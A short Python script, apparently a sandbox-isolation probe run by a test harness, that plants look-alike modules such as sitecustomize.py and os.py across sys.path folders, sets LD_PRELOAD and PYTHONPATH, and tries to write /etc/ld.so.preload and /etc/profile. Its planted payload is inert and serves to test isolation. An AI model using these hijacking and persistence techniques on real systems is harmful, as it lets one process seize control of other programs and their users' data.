"""Puts modules of its own where a program that starts later may look for them."""

from prelude import attempt, os, report_and_serve

CODE = "import sys\nsys.stdout.write('untouched\\n')\nsys.stdout.flush()\nimport os\nos._exit(0)\n"
NAMES = ("socket.py", "sitecustomize.py", "usercustomize.py", "json.py", "glob.py", "ctypes.py", "os.py")


def plant(folder):
    os.makedirs(folder, exist_ok=True)
    for name in NAMES:
        with open(f"{folder}/{name}", "w") as file:
            file.write(CODE)


for folder in ("/work", "/tmp", "/dev/shm", "/work/.local/lib/python3.11/site-packages"):
    plant(folder)
places = [path for path in __import__("sys").path if path.startswith("/") and not path.startswith("/work")]
for folder in (*places, "/usr/local/lib/python3/dist-packages", "/etc/python3", "/client", "/root/.local/lib"):
    attempt(f"plant in {folder}", lambda folder=folder: plant(folder) or "planted")
for name in ("PYTHONPATH", "PYTHONSTARTUP", "LD_PRELOAD"):
    os.environ[name] = "/work"
attempt("ld.so.preload", lambda: open("/etc/ld.so.preload", "w").write("/work/x.so"))
attempt("profile", lambda: open("/etc/profile", "a").write("true"))
report_and_serve()
